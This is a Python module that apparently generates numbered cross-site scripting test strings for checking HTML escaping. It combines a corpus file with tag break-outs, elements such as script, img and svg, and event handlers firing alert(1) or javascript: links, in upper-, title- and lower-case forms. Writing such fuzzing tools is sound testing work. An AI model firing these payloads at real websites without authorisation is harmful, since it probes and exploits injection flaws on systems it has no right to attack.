"""A thousand hostile texts: those of a corpus, and every combination of ways out, elements and disguises."""

from itertools import islice, product
from pathlib import Path

CORPUS = tuple((Path(__file__).parent / "hostile.txt").read_text("utf-8").splitlines())
WAYS_OUT = ("", '">', "'>", "</p>", "</title>", "</textarea>", "</script>", "-->", "]]>", '" x=', "' x=", "`>")
ELEMENTS = ("script", "img", "svg", "iframe", "a", "details", "body", "input", "video", "math", "object", "form")
ACTS = (
    " onerror=alert(1) src=x", " onload=alert(1)", " onfocus=alert(1) autofocus", " href=javascript:alert(1)", " style=x:y",
    "/onclick=alert(1)", "",
)
DISGUISES = (str, str.upper, str.title)


def payloads(count: int = 1000) -> list[str]:
    """Return `count` hostile texts, each with its number, so that each can be found again on a page."""
    made = (f"{way}<{disguise(element)}{act}>" for way, act, element, disguise in product(WAYS_OUT, ACTS, ELEMENTS, DISGUISES))
    return [f"h{n}x {text}" for n, text in enumerate([*CORPUS, *islice(made, count - len(CORPUS))])]
